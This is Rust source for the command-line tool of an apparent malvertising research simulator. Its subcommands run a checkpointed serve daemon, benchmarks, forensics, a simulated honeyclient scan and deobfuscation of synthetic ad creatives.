    #[serde(default = "default_per_day")]
    per_day: u64,
    #[serde(default = "default_workers")]
    workers: usize,
    #[serde(default = "default_faults")]
    faults: String,
    #[serde(default = "default_cache")]
    cache: usize,
    #[serde(default = "default_ttl_days")]
    ttl_days: u32,
    #[serde(default = "default_queue")]
    queue: usize,
    #[serde(default = "default_shard")]
    shard: usize,
    #[serde(default = "default_checkpoint_every")]
    checkpoint_every: u64,
}

fn default_impressions() -> u64 {
    8192
}

fn default_per_day() -> u64 {
    2048
}

fn default_cache() -> usize {
    65_536
}

fn default_ttl_days() -> u32 {
    7
}

fn default_queue() -> usize {
    256
}

impl Default for ServeRecipe {
    fn default() -> Self {
        ServeRecipe {
            seed: default_seed(),
            impressions: default_impressions(),
            per_day: default_per_day(),
            workers: default_workers(),
            faults: default_faults(),
            cache: default_cache(),
            ttl_days: default_ttl_days(),
            queue: default_queue(),
            shard: default_shard(),
            checkpoint_every: default_checkpoint_every(),
        }
    }
}

/// The document name the serve recipe is stored under, next to the
/// daemon's snapshot (distinct from the batch run's `recipe.json`).
const SERVE_RECIPE_DOC: &str = "serve-recipe.json";

fn cmd_serve(flags: &HashMap<String, String>) -> Result<(), String> {
    use malvertising::core::serve::{ServeConfig, ServeDaemon};

    // Resolve the recipe: defaults, then (on resume) the recorded recipe,
    // then explicit flags — same precedence as `malvert run`.
    let resume = flags.get("resume").cloned();
    let base = match &resume {
        Some(dir) => SnapshotStore::open(dir)
            .map_err(|e| format!("open checkpoint directory {dir}: {e}"))?
            .load::<ServeRecipe>(SERVE_RECIPE_DOC)
            .map_err(|e| format!("read {dir}/{SERVE_RECIPE_DOC}: {e}"))?
            .unwrap_or_default(),
        None => ServeRecipe::default(),
    };
    let recipe = ServeRecipe {
        seed: flag(flags, "seed", base.seed)?,
        impressions: flag(flags, "impressions", base.impressions)?,
        per_day: flag(flags, "per-day", base.per_day)?,
        workers: flag(flags, "workers", base.workers)?,
        faults: flags.get("faults").cloned().unwrap_or(base.faults),
        cache: flag(flags, "cache", base.cache)?,
        ttl_days: flag(flags, "ttl-days", base.ttl_days)?,
        queue: flag(flags, "queue", base.queue)?,
        shard: flag(flags, "shard", base.shard)?,
        checkpoint_every: flag(flags, "checkpoint-every", base.checkpoint_every)?,
    };
    let faults = match recipe.faults.as_str() {
        "none" => None,
        name => Some(malvertising::net::FaultProfile::named(name).ok_or_else(|| {
            format!("invalid value `{name}` for --faults (expected none, light, or heavy)")
        })?),
    };

    let mut config = ServeConfig {
        seed: recipe.seed,
        impressions: recipe.impressions,
        workers: recipe.workers,
        faults,
        cache_capacity: recipe.cache,
        ttl_days: recipe.ttl_days,
        queue_capacity: recipe.queue,
        ..ServeConfig::default()
    };
    config.stream.per_day = recipe.per_day;

    let mut builder = ServeDaemon::builder()
        .config(config)
        .shard_size(recipe.shard)
        .checkpoint_every(recipe.checkpoint_every);
    let progress = flags.contains_key("progress");
    let metrics = (flags.contains_key("metrics-out") || progress).then(MetricsRegistry::new);
    if let Some(metrics) = &metrics {
        builder = builder.metrics(metrics.clone()).progress(progress);
    }
    if let Some(dir) = flags.get("checkpoint") {
        builder = builder.checkpoint(dir);
    }
    if let Some(dir) = &resume {
        builder = builder.resume(dir);
    }
    if let Some(n) = flags.get("abort-after-shards") {
        let n: u64 = n
            .parse()
            .map_err(|_| format!("invalid value `{n}` for --abort-after-shards"))?;
        builder = builder.abort_after_shards(n);
    }
    let daemon = builder.build()?;

    // Record the effective recipe next to the snapshots, so a later
    // `--resume` reproduces this invocation.
    let checkpoint_dir = flags.get("checkpoint").cloned().or_else(|| resume.clone());
    if let Some(dir) = &checkpoint_dir {
        SnapshotStore::open(dir)
            .and_then(|store| store.save(SERVE_RECIPE_DOC, &recipe))
            .map_err(|e| format!("write {dir}/{SERVE_RECIPE_DOC}: {e}"))?;
    }

    // Queue the query file before the daemon starts: each line is
    // `URL` (answered at the first boundary) or `SHARD URL` (answered at
    // the first boundary whose ordinal is at least SHARD).
    let handle = daemon.handle();
    let mut queries = Vec::new();
    if let Some(path) = flags.get("queries") {
        let text = std::fs::read_to_string(path).map_err(|e| format!("read {path}: {e}"))?;
        for (lineno, line) in text.lines().enumerate() {
            let line = line.trim();
            if line.is_empty() || line.starts_with('#') {
                continue;
            }
            let (shard, url) = match line.split_once(char::is_whitespace) {
                Some((shard, url)) => (
                    shard
                        .parse::<u64>()
                        .map_err(|_| format!("{path}:{}: invalid shard `{shard}`", lineno + 1))?,
                    url.trim(),
                ),
                None => (0, line),
            };
            let rx = handle
                .ask_at(shard, url)
                .map_err(|e| format!("{path}:{}: {e}", lineno + 1))?;
            queries.push(rx);
        }
    }

    eprintln!(
        "serving: seed {}, {} impressions ({}/day), {} workers, cache {} / ttl {}d / queue {}{}",
        recipe.seed,
        recipe.impressions,
        recipe.per_day,
        recipe.workers,
        recipe.cache,
        recipe.ttl_days,
        recipe.queue,
        if resume.is_some() { " (resumed)" } else { "" }
    );
    let report = match daemon.run() {
        Some(report) => report,
        None => {
            if let (Some(dir), Some(metrics)) = (flags.get("metrics-out"), &metrics) {
                write_metrics_jsonl(dir, metrics)?;
            }
            let dir = checkpoint_dir.as_deref().unwrap_or("<checkpoint dir>");
            eprintln!(
                "serve parked at a checkpoint boundary; continue with: malvert serve --resume {dir}"
            );
            return Ok(());
        }
    };

    // Answered queries come out as JSON lines, submission order preserved.
    for rx in queries {
        let answer = rx
            .recv()
            .map_err(|_| "daemon dropped a pending query".to_string())?;
        let line = serde_json::to_string(&answer).map_err(|e| format!("serialize answer: {e}"))?;
        println!("{line}");
    }

    let c = &report.snapshot.counters;
    let hit_rate = if c.ingested > 0 {
        c.cache_hits as f64 * 100.0 / c.ingested as f64
    } else {
        0.0
    };
    eprintln!(
        "serve complete: {} impressions in {} shards · {} scans ({} re-scans) · \
         cache hits {} ({hit_rate:.1}%) · stale serves {} · shed {} · evictions {} · \
         backlog {} · {} cached verdicts · {} queries answered",
        c.ingested,
        report.shards,
        c.scans,
        c.rescans,
        c.cache_hits,
        c.stale_serves,
        c.shed,
        c.evictions,
        c.rescan_backlog,
        report.snapshot.cache.len(),
        c.queries,
    );
    if let Some(path) = flags.get("state-out") {
        let state = report.snapshot.state_json();
        std::fs::write(path, &state).map_err(|e| format!("write {path}: {e}"))?;
        eprintln!("wrote {path} ({} bytes)", state.len());
    }
    if let (Some(dir), Some(metrics)) = (flags.get("metrics-out"), &metrics) {
        write_metrics_jsonl(dir, metrics)?;
    }
    Ok(())
}

/// Times the indexed matcher against the retained naive scan, the script
/// compile cache against cold compiles, and the bytecode VM against the
/// retained tree-walk interpreter, on the shared synthetic workloads,
/// writing machine-readable JSON reports — the perf-trajectory artifacts
/// CI uploads on every run. Plain `Instant` timing (Criterion is a
/// dev-dependency of the bench crate, not of this binary); the Criterion
/// `filterlist_index`, `adscript_compile`, and `adscript_exec` groups time
/// the identical workloads when statistical rigor is wanted.
/// Renders the `--compare` delta table: every shared numeric metric of two
/// adscript bench reports side by side with the relative change, flagged
/// as improvement or regression by the metric's polarity. Metrics missing
/// from the old report (older schema, e.g. pre-shape counters) are skipped.
fn print_bench_delta(old_path: &str, old: &serde_json::Value, new: &serde_json::Value) {
    // (label, JSON pointer, lower-is-better)
    const ROWS: &[(&str, &str, bool)] = &[
        ("compile cold ns/script", "/cold_ns_per_script", true),
        ("compile warm ns/script", "/warm_ns_per_script", true),
        ("compile cache speedup", "/speedup", false),
        ("compile cache hit rate", "/cache/hit_rate", false),
        (
            "exec tree-walk cold ns",
            "/exec_ns_per_script/tree_walk/cold",
            true,
        ),
        (
            "exec tree-walk warm ns",
            "/exec_ns_per_script/tree_walk/warm",
            true,
        ),
        ("exec vm cold ns", "/exec_ns_per_script/vm/cold", true),
        ("exec vm warm ns", "/exec_ns_per_script/vm/warm", true),
        (
            "vm speedup cold",
            "/exec_ns_per_script/vm_speedup/cold",
            false,
        ),
        (
            "vm speedup warm",
            "/exec_ns_per_script/vm_speedup/warm",
            false,
        ),
        (
            "ic hit rate",
            "/exec_ns_per_script/vm_counters/ic_hit_rate",
            false,
        ),
        (
            "shape hit rate",
            "/exec_ns_per_script/vm_counters/shape_hit_rate",
            false,
        ),
    ];
    println!("delta vs {old_path}:");
    println!(
        "{:<24} {:>14} {:>14} {:>9}",
        "metric", "old", "new", "delta"
    );
    for &(label, ptr, lower_is_better) in ROWS {
        let at = |doc: &serde_json::Value| doc.pointer(ptr).and_then(serde_json::Value::as_f64);
        let (Some(o), Some(n)) = (at(old), at(new)) else {
            continue;
        };
        let pct = if o.abs() > f64::EPSILON {
            (n - o) / o * 100.0
        } else {
            0.0
        };
        let gloss = if pct.abs() < 0.05 {
            ""
        } else if (pct < 0.0) == lower_is_better {
            "  (better)"
        } else {
            "  (worse)"
        };
        println!("{label:<24} {o:>14.3} {n:>14.3} {pct:>+8.1}%{gloss}");
    }
}

fn cmd_bench_json(flags: &HashMap<String, String>) -> Result<(), String> {
    use malvertising::bench::synth::{
        synthetic_context, synthetic_list, synthetic_scripts, synthetic_urls,
    };
    use malvertising::filterlist::{FilterSet, MatchScratch};
    use std::time::Instant;

    let out_path = flags
        .get("out")
        .cloned()
        .unwrap_or_else(|| "BENCH_filterlist.json".to_string());
    let adscript_out = flags
        .get("adscript-out")
        .cloned()
        .unwrap_or_else(|| "BENCH_adscript.json".to_string());
    let url_count = flag(flags, "urls", 200usize)?.max(1);
    let iters = flag(flags, "iters", 30u32)?.max(1);

    let ctx = synthetic_context();
    let mut groups = Vec::new();
    for rules in [100usize, 1_000, 10_000] {
        let set = FilterSet::parse(&synthetic_list(rules, 0xF117));
        let urls = synthetic_urls(url_count, rules, 0xF118);
        let mut scratch = MatchScratch::default();

        // One untimed pass per path warms caches and checks agreement.
        for url in &urls {
            let indexed = set.matches_with(url, &ctx, &mut scratch);
            let naive = set.matches_naive(url, &ctx);
            if indexed != naive {
                return Err(format!(
                    "indexed/naive divergence on {url} at {rules} rules"
                ));
            }
        }

        let started = Instant::now();
        for _ in 0..iters {
            for url in &urls {
                std::hint::black_box(set.matches_with(url, &ctx, &mut scratch));
            }
        }
        let indexed_ns = started.elapsed().as_nanos() as f64;

        let started = Instant::now();
        for _ in 0..iters {
            for url in &urls {
                std::hint::black_box(set.matches_naive(url, &ctx));
            }
        }
        let naive_ns = started.elapsed().as_nanos() as f64;

        let per_match = (iters as f64) * (urls.len() as f64);
        let indexed_ns_per_url = indexed_ns / per_match;
        let naive_ns_per_url = naive_ns / per_match;
        let speedup = naive_ns / indexed_ns.max(1.0);
        eprintln!(
            "{rules:>6} rules: indexed {indexed_ns_per_url:>10.1} ns/url, \
             naive {naive_ns_per_url:>10.1} ns/url ({speedup:.1}x)"
        );
        groups.push(serde_json::json!({
            "rules": rules,
            "urls": urls.len(),
            "iters": iters,
            "indexed_ns_per_url": indexed_ns_per_url,
            "naive_ns_per_url": naive_ns_per_url,
            "speedup": speedup,
        }));
    }

    let report = serde_json::json!({
        "bench": "filterlist",
        "workload": { "list_seed": 0xF117, "url_seed": 0xF118 },
        "groups": groups,
    });
    let json = serde_json::to_string_pretty(&report).map_err(|e| format!("serialize: {e}"))?;
    std::fs::write(&out_path, &json).map_err(|e| format!("write {out_path}: {e}"))?;
    eprintln!("wrote {out_path} ({} bytes)", json.len());

    // AdScript compile cache: cold (lex + parse + resolve every pass) vs
    // warm (shared cache, front end is a hash lookup) over the same
    // deterministic script workload the Criterion `adscript_compile` group
    // times.
    use malvertising::adscript::{Interpreter, Limits, NoHost, ScriptCache, ScriptStats};
    let scripts = synthetic_scripts(32, 0xADC0);
    let stats = ScriptStats::new();
    let cache = ScriptCache::new(4096, stats.clone());

    // One untimed pass warms the cache and checks that the cached path
    // computes exactly what the uncached path does.
    for (i, src) in scripts.iter().enumerate() {
        let mut cold = Interpreter::new(NoHost, Limits::default(), 1);
        cold.run(src)
            .map_err(|e| format!("synthetic script {i} fails uncached: {e}"))?;
        let script = cache
            .compile(src)
            .map_err(|e| format!("synthetic script {i} fails cached: {e}"))?;
        let mut warm = Interpreter::new(NoHost, Limits::default(), 1);
        warm.run_program(&script)
            .map_err(|e| format!("synthetic script {i} fails precompiled: {e}"))?;
        match (cold.get_global("out"), warm.get_global("out")) {
            (Some(a), Some(b)) if a.strict_eq(b) => {}
            _ => {
                return Err(format!(
                    "cached/uncached divergence on synthetic script {i}"
                ))
            }
        }
    }

    let started = Instant::now();
    for _ in 0..iters {
        for src in &scripts {
            let mut interp = Interpreter::new(NoHost, Limits::default(), 1);
            std::hint::black_box(interp.run(src).expect("checked in warm-up pass"));
        }
    }
    let cold_ns = started.elapsed().as_nanos() as f64;

    let started = Instant::now();
    for _ in 0..iters {
        for src in &scripts {
            let script = cache.compile(src).expect("checked in warm-up pass");
            let mut interp = Interpreter::new(NoHost, Limits::default(), 1);
            std::hint::black_box(
                interp
                    .run_program(&script)
                    .expect("checked in warm-up pass"),
            );
        }
    }
    let warm_ns = started.elapsed().as_nanos() as f64;

    let per_script = (iters as f64) * (scripts.len() as f64);
    let cold_ns_per_script = cold_ns / per_script;
    let warm_ns_per_script = warm_ns / per_script;
    let speedup = cold_ns / warm_ns.max(1.0);
    let counts = stats.snapshot();
    let hit_rate = counts.cache_hits as f64 / (counts.lookups.max(1) as f64);
    eprintln!(
        "adscript: cold {cold_ns_per_script:>10.1} ns/script, \
         warm {warm_ns_per_script:>10.1} ns/script ({speedup:.1}x), \
         cache hit rate {:.1}%",
        hit_rate * 100.0
    );

    // AdScript execution: the retained tree-walk oracle vs the bytecode
    // VM on the execution-heavy packed-creative workload (the Criterion
    // `adscript_exec` group times the same corpus). Cold recompiles the
    // script every pass; warm runs a precompiled program, isolating pure
    // execution from the front end.
    use malvertising::adscript::{CompiledScript, ScriptEngine};
    use malvertising::bench::synth::synthetic_exec_scripts;
    let exec_scripts = synthetic_exec_scripts(8, 0xE8EC);
    let exec_iters = iters.clamp(1, 10);
    let mut exec_compiled = Vec::new();
    for (i, src) in exec_scripts.iter().enumerate() {
        exec_compiled
            .push(CompiledScript::compile(src).map_err(|e| format!("exec script {i}: {e}"))?);
    }

    // Parity pass: both engines must compute the identical output, and it
    // doubles as warm-up. Also snapshots the VM's dispatch/IC counters.
    let mut vm_dispatches = 0u64;
    let mut vm_ic_hits = 0u64;
    let mut vm_ic_misses = 0u64;
    let mut vm_shape_hits = 0u64;
    let mut vm_shape_transitions = 0u64;
    for (i, script) in exec_compiled.iter().enumerate() {
        let mut tw = Interpreter::new(NoHost, Limits::default(), 1);
        tw.set_engine(ScriptEngine::TreeWalk);
        tw.run_program(script)
            .map_err(|e| format!("exec script {i} fails on tree-walk: {e}"))?;
        let mut vm = Interpreter::new(NoHost, Limits::default(), 1);
        vm.set_engine(ScriptEngine::Vm);
        vm.run_program(script)
            .map_err(|e| format!("exec script {i} fails on vm: {e}"))?;
        match (tw.get_global("out"), vm.get_global("out")) {
            (Some(a), Some(b)) if a.strict_eq(b) => {}
            _ => return Err(format!("engine divergence on exec script {i}")),
        }
        let (d, h, m, sh, st) = vm.vm_counters();
        vm_dispatches += d;
        vm_ic_hits += h;
        vm_ic_misses += m;
        vm_shape_hits += sh;
        vm_shape_transitions += st;
    }

    let time_warm = |engine: ScriptEngine| {
        let started = Instant::now();
        for _ in 0..exec_iters {
            for script in &exec_compiled {
                let mut interp = Interpreter::new(NoHost, Limits::default(), 1);
                interp.set_engine(engine);
                std::hint::black_box(interp.run_program(script).expect("checked in parity pass"));
            }
        }
        started.elapsed().as_nanos() as f64 / (exec_iters as f64 * exec_compiled.len() as f64)
    };
    let time_cold = |engine: ScriptEngine| {
        let started = Instant::now();
        for _ in 0..exec_iters {
            for src in &exec_scripts {
                let script = CompiledScript::compile(src).expect("checked in parity pass");
                let mut interp = Interpreter::new(NoHost, Limits::default(), 1);
                interp.set_engine(engine);
                std::hint::black_box(interp.run_program(&script).expect("checked in parity pass"));
            }
        }
        started.elapsed().as_nanos() as f64 / (exec_iters as f64 * exec_scripts.len() as f64)
    };
    let tw_warm = time_warm(ScriptEngine::TreeWalk);
    let vm_warm = time_warm(ScriptEngine::Vm);
    let tw_cold = time_cold(ScriptEngine::TreeWalk);
    let vm_cold = time_cold(ScriptEngine::Vm);
    let ic_hit_rate = vm_ic_hits as f64 / ((vm_ic_hits + vm_ic_misses).max(1) as f64);
    let shape_hit_rate = vm_shape_hits as f64 / ((vm_ic_hits + vm_ic_misses).max(1) as f64);
    eprintln!(
        "adscript exec: tree-walk {tw_warm:>10.1} ns/script, \
         vm {vm_warm:>10.1} ns/script ({:.2}x warm, {:.2}x cold), \
         ic hit rate {:.1}%, shape hit rate {:.1}%",
        tw_warm / vm_warm.max(1.0),
        tw_cold / vm_cold.max(1.0),
        ic_hit_rate * 100.0,
        shape_hit_rate * 100.0
    );

    let report = serde_json::json!({
        "bench": "adscript",
        "workload": { "scripts": scripts.len(), "seed": 0xADC0, "iters": iters },
        "cold_ns_per_script": cold_ns_per_script,
        "warm_ns_per_script": warm_ns_per_script,
        "speedup": speedup,
        "cache": {
            "lookups": counts.lookups,
            "hits": counts.cache_hits,
            "misses": counts.cache_misses,
            "hit_rate": hit_rate,
        },
        "exec_ns_per_script": {
            "workload": { "scripts": exec_scripts.len(), "seed": 0xE8EC, "iters": exec_iters },
            "tree_walk": { "cold": tw_cold, "warm": tw_warm },
            "vm": { "cold": vm_cold, "warm": vm_warm },
            "vm_speedup": {
                "cold": tw_cold / vm_cold.max(1.0),
                "warm": tw_warm / vm_warm.max(1.0),
            },
            "vm_counters": {
                "dispatches": vm_dispatches,
                "ic_hits": vm_ic_hits,
                "ic_misses": vm_ic_misses,
                "ic_hit_rate": ic_hit_rate,
                "shape_hits": vm_shape_hits,
                "shape_transitions": vm_shape_transitions,
                "shape_hit_rate": shape_hit_rate,
            },
        },
    });
    let json = serde_json::to_string_pretty(&report).map_err(|e| format!("serialize: {e}"))?;
    std::fs::write(&adscript_out, &json).map_err(|e| format!("write {adscript_out}: {e}"))?;
    eprintln!("wrote {adscript_out} ({} bytes)", json.len());

    // `--compare OLD.json` renders a per-metric delta table against a
    // previously written adscript report — the review-time view of what a
    // change did to the trajectory artifacts.
    if let Some(old_path) = flags.get("compare") {
        let old_text =
            std::fs::read_to_string(old_path).map_err(|e| format!("read {old_path}: {e}"))?;
        let old: serde_json::Value =
            serde_json::from_str(&old_text).map_err(|e| format!("parse {old_path}: {e}"))?;
        print_bench_delta(old_path, &old, &report);
    }

    // End-to-end study throughput (opt-in via --study-out): the full
    // pipelined crawl + classify on two corpus scales, through the same
    // StudyBuilder front door every other caller uses. The Criterion
    // `study` group times the identical workloads with statistical rigor.
    if let Some(study_out) = flags.get("study-out") {
        let mut workloads = Vec::new();
        for (name, top, bottom, random, feed) in
            [("default", 30, 30, 50, 20), ("scaled", 60, 60, 100, 40)]
        {
            let study = Study::builder()
                .seed(2014)
                .web(WebConfig {
                    ranking_universe: 10_000,
                    top_slice: top,
                    bottom_slice: bottom,
                    random_slice: random,
                    security_feed: feed,
                    ad_network_count: 40,
                    sandbox_adoption: 0.0,
                })
                .schedule(CrawlSchedule::scaled(4, 2))
                .workers(8)
                .build()?;
            let sites = study.config.web.total_sites();
            let started = Instant::now();
            let results = study.run();
            let wall = started.elapsed();
            let loads_per_sec = results.page_loads as f64 / wall.as_secs_f64().max(1e-9);
            eprintln!(
                "study/{name}: {sites} sites, {} loads, {} unique ads in {:.0} ms \
                 ({loads_per_sec:.0} loads/s)",
                results.page_loads,
                results.unique_ads(),
                wall.as_secs_f64() * 1e3
            );
            workloads.push(serde_json::json!({
                "name": name,
                "sites": sites,
                "page_loads": results.page_loads,
                "unique_ads": results.unique_ads(),
                "wall_ms": wall.as_secs_f64() * 1e3,
                "loads_per_sec": loads_per_sec,
            }));
        }
        let report = serde_json::json!({
            "bench": "study",
            "workload": { "seed": 2014, "days": 4, "refreshes": 2, "workers": 8 },
            "workloads": workloads,
        });
        let json = serde_json::to_string_pretty(&report).map_err(|e| format!("serialize: {e}"))?;
        std::fs::write(study_out, &json).map_err(|e| format!("write {study_out}: {e}"))?;
        eprintln!("wrote {study_out} ({} bytes)", json.len());
    }

    // Run-health figures (opt-in via --health-out): one metered,
    // checkpointed study on the default bench scale, distilled to the
    // shards/sec and checkpoint-overhead numbers worth tracking over time.
    if let Some(health_out) = flags.get("health-out") {
        let metrics = MetricsRegistry::new();
        let ckpt =
            std::env::temp_dir().join(format!("malvert-bench-health-{}", std::process::id()));
        let study = Study::builder()
            .seed(2014)
            .web(WebConfig {
                ranking_universe: 10_000,
                top_slice: 30,
                bottom_slice: 30,
                random_slice: 50,
                security_feed: 20,
                ad_network_count: 40,
                sandbox_adoption: 0.0,
            })
            .schedule(CrawlSchedule::scaled(4, 2))
            .workers(8)
            .checkpoint(ckpt.clone())
            .metrics(metrics.clone())
            .build()?;
        let started = Instant::now();
        let results = study.run();
        let wall = started.elapsed();
        std::fs::remove_dir_all(&ckpt).ok();
        let health = metrics.collect().health();
        let mut stages = Vec::new();
        for s in &health.stages {
            let shards_per_sec = s.shards_done as f64 / (s.wall_us as f64 / 1e6).max(1e-9);
            eprintln!(
                "health/{}: {} shards ({shards_per_sec:.1} shards/s), \
                 {:.0} jobs/s, checkpoint overhead {:.2}%",
                s.stage, s.shards_done, s.jobs_per_sec, s.checkpoint_overhead_pct
            );
            stages.push(serde_json::json!({
                "stage": s.stage,
                "shards": s.shards_done,
                "jobs": s.jobs_done,
                "shards_per_sec": shards_per_sec,
                "jobs_per_sec": s.jobs_per_sec,
                "job_p50_us": s.job_p50_us,
                "job_p95_us": s.job_p95_us,
                "checkpoint_writes": s.checkpoint.writes,
                "checkpoint_bytes": s.checkpoint.bytes,
                "checkpoint_overhead_pct": s.checkpoint_overhead_pct,
                "balance_ratio": s.balance_ratio,
                "steals": s.steals,
            }));
        }
        let report = serde_json::json!({
            "bench": "study_health",
            "workload": {
                "seed": 2014,
                "days": 4,
                "refreshes": 2,
                "workers": 8,
                "page_loads": results.page_loads,
            },
            "wall_ms": wall.as_secs_f64() * 1e3,
            "stages": stages,
        });
        let json = serde_json::to_string_pretty(&report).map_err(|e| format!("serialize: {e}"))?;
        std::fs::write(health_out, &json).map_err(|e| format!("write {health_out}: {e}"))?;
        eprintln!("wrote {health_out} ({} bytes)", json.len());
    }
    Ok(())
}

fn cmd_trace(args: &[String]) -> Result<(), String> {
    let mut path = None;
    let mut top = 10usize;
    let mut iter = args.iter();
    while let Some(arg) = iter.next() {
        match arg.as_str() {
            "--top" => {
                let v = iter.next().ok_or("flag --top needs a value")?;
                top = v
                    .parse()
                    .map_err(|_| format!("invalid value `{v}` for --top"))?;
            }
            other if other.starts_with("--") => {
                return Err(format!("unknown flag `{other}` for `malvert trace`"));
            }
            other => {
                if path.replace(other.to_string()).is_some() {
                    return Err("malvert trace takes exactly one events.jsonl path".into());
                }
            }
        }
    }
    let path = path.ok_or("usage: malvert trace EVENTS.JSONL [--top N]")?;
    let text = std::fs::read_to_string(&path).map_err(|e| format!("read {path}: {e}"))?;
    let report = TraceReport::from_jsonl(&text).map_err(|e| format!("parse {path}: {e}"))?;
    print!("{}", report.render_summary(top));
    Ok(())
}

fn cmd_health(args: &[String]) -> Result<(), String> {
    let mut path = None;
    for arg in args {
        if arg.starts_with("--") {
            return Err(format!("unknown flag `{arg}` for `malvert health`"));
        }
        if path.replace(arg.clone()).is_some() {
            return Err("malvert health takes exactly one metrics.jsonl path or directory".into());
        }
    }
    let path = path.ok_or("usage: malvert health METRICS.JSONL|DIR")?;
    let mut file = std::path::PathBuf::from(&path);
    if file.is_dir() {
        file.push("metrics.jsonl");
    }
    let text =
        std::fs::read_to_string(&file).map_err(|e| format!("read {}: {e}", file.display()))?;
    let log =
        MetricsLog::from_jsonl(&text).map_err(|e| format!("parse {}: {e}", file.display()))?;
    if log.is_empty() {
        return Err(format!("{} holds no samples", file.display()));
    }
    print!("{}", log.health().render());
    Ok(())
}

fn run_study_for(
    flags: &HashMap<String, String>,
) -> Result<(Study, malvertising::core::study::StudyResults), String> {
    let seed = flag(flags, "seed", 2014u64)?;
    let days = flag(flags, "days", 6u32)?;
    let study = Study::builder()
        .seed(seed)
        .web(WebConfig {
            ranking_universe: 100_000,
            top_slice: 150,
            bottom_slice: 150,
            random_slice: 300,
            security_feed: 80,
            ad_network_count: 40,
            sandbox_adoption: 0.0,
        })
        .schedule(CrawlSchedule::scaled(days, 2))
        .workers(8)
        .build()?;
    let results = study.run();
    Ok((study, results))
}

fn cmd_forensics(flags: &HashMap<String, String>) -> Result<(), String> {
    let (study, results) = run_study_for(flags)?;
    let rows = analysis::campaign_forensics(&results, &study.world);
    println!(
        "{:<14}{:<11}{:>7}{:>11}{:>10}{:>8}{:>13}  categories",
        "campaign", "kind", "from", "delivered", "detected", "sites", "impressions"
    );
    for r in &rows {
        println!(
            "{:<14}{:<11}{:>7}{:>11}{:>10}{:>8}{:>13}  {}",
            r.campaign.to_string(),
            r.kind,
            r.active_from,
            r.creatives_delivered,
            r.creatives_detected,
            r.sites_reached,
            r.impressions,
            r.categories.join(", ")
        );
    }
    Ok(())
}

fn cmd_graph(flags: &HashMap<String, String>) -> Result<(), String> {
    let (study, results) = run_study_for(flags)?;
    let dot = analysis::arbitration_graph_dot(&results, &study.world);
    match flags.get("out") {
        Some(path) => {
            std::fs::write(path, &dot).map_err(|e| format!("write {path}: {e}"))?;
            eprintln!(
                "wrote {path} ({} bytes); render with `dot -Tsvg {path}`",
                dot.len()
            );
        }
        None => println!("{dot}"),
    }
    Ok(())
}

fn cmd_scan(flags: &HashMap<String, String>) -> Result<(), String> {
    let seed = flag(flags, "seed", 2014u64)?;
    let network = flag(flags, "network", 0u32)?;
    let slot = flag(flags, "slot", 0usize)?;
    let day = flag(flags, "day", 5u32)?;
    let world = StudyWorld::build(
        seed,
        &WebConfig::default(),
        &AdWorldConfig::default(),
        1.0,
        30,
    );
    if network as usize >= world.ads.networks().len() {
        return Err(format!(
            "--network {network} out of range (0..{})",
            world.ads.networks().len()
        ));
    }
    let oracle = Oracle::builder(&world.network, &world.blacklists, &world.scanner)
        .seeds(world.tree)
        .build();
    let url = world.ads.serve_url(AdNetworkId(network), 1, slot);
    let time = SimTime::at(day, 0);
    println!("scanning {url} at {time}\n");
    let visit = oracle.honeyclient_visit(&url, time);
    println!("hosts contacted:");
    for host in visit.capture.hosts() {
        println!("  {host}");
    }
    if !visit.events.is_empty() {
        println!("behaviour:");
        for event in &visit.events {
            println!("  {event:?}");
        }
    }
    for d in &visit.downloads {
        let r = world.scanner.scan(&d.bytes);
        println!(
            "download {} ({} bytes): {}/{} engines flag it",
            d.filename.as_deref().unwrap_or("?"),
            d.bytes.len(),
            r.positives(),
            r.total_engines
        );
    }
    if let Some(path) = flags.get("har") {
        let har = visit.capture.to_har_json();
        std::fs::write(path, &har).map_err(|e| format!("write {path}: {e}"))?;
        eprintln!("wrote HAR capture to {path} ({} bytes)", har.len());
    }
    let incidents = oracle.classify_visit(&visit, SimTime::at(day + 20, 0));
    if incidents.is_empty() {
        println!("\nverdict: clean");
    } else {
        println!("\nverdict: MALICIOUS");
        for i in &incidents {
            println!("  [{}] {}", i.incident_type, i.detail);
        }
    }
    Ok(())
}

fn cmd_easylist(flags: &HashMap<String, String>) -> Result<(), String> {
    let seed = flag(flags, "seed", 2014u64)?;
    let coverage = flag(flags, "coverage", 100u32)?;
    let world = AdWorld::generate(SeedTree::new(seed), &AdWorldConfig::default());
    println!(
        "{}",
        easylist::generate_easylist(&world, f64::from(coverage) / 100.0)
    );
    Ok(())
}

fn cmd_creative(flags: &HashMap<String, String>) -> Result<(), String> {
    let seed = flag(flags, "seed", 2014u64)?;
    let campaign = flag(flags, "campaign", 0usize)?;
    let variant = flag(flags, "variant", 0u32)?;
    let world = AdWorld::generate(SeedTree::new(seed), &AdWorldConfig::default());
    let campaigns = world.campaigns();
    let c = campaigns.get(campaign).ok_or_else(|| {
        format!(
            "--campaign {campaign} out of range (0..{})",
            campaigns.len()
        )
    })?;
    eprintln!(
        "campaign {} ({}): {:?}, bid {:.2}, active from day {}",
        c.id, c.advertiser, c.behavior, c.bid, c.active_from
    );
    let markup =
        malvertising::adnet::creative::render_creative(c, variant % c.variant_count.max(1));
    println!("{markup}");
    if flags.contains_key("deobfuscate") {
        deobfuscate_creative(&markup);
    }
    Ok(())
}

/// Runs the creative's inline scripts in an instrumented interpreter and
/// prints every source string that passed through `eval` — unwrapping
/// char-code and base64 obfuscation layers the way Wepawet did.
fn deobfuscate_creative(markup: &str) {
    use malvertising::adscript::{Interpreter, Limits};
    use malvertising::browser::host::BrowserHost;
    use malvertising::browser::Personality;
    use malvertising::types::Url;

    let doc = malvertising::html::parse_document(markup);
    let url = Url::parse("http://creative.local/ad").expect("static url");
    let personality = Personality::vulnerable_victim();
    let mut any = false;
    for script_node in doc.elements_by_tag("script") {
        let src = doc.text_content(script_node);
        if src.trim().is_empty() {
            continue;
        }
        let host = BrowserHost::new(personality.clone(), url.clone());
        let mut interp = Interpreter::new(host, Limits::default(), 1);
        BrowserHost::install_globals(&mut interp, &personality, &url);
        let result = interp.run(&src);
        if !interp.eval_trace.is_empty() {
            any = true;
            eprintln!(
                "\n=== deobfuscation trace ({} eval layer(s)) ===",
                interp.eval_trace.len()
            );
            for (i, layer) in interp.eval_trace.iter().enumerate() {
                eprintln!("--- layer {} ---", i + 1);
                eprintln!("{layer}");
            }
        }
        if let Err(e) = result {
            eprintln!("(script ended with: {e})");
        }
        let effects = interp.host.take_effects();
        if !effects.is_empty() {
            eprintln!("--- observed effects ---");
            for effect in &effects {
                eprintln!("{effect:?}");
            }
        }
    }
    if !any {
        eprintln!("(no eval layers: the script is in cleartext)");
    }
}

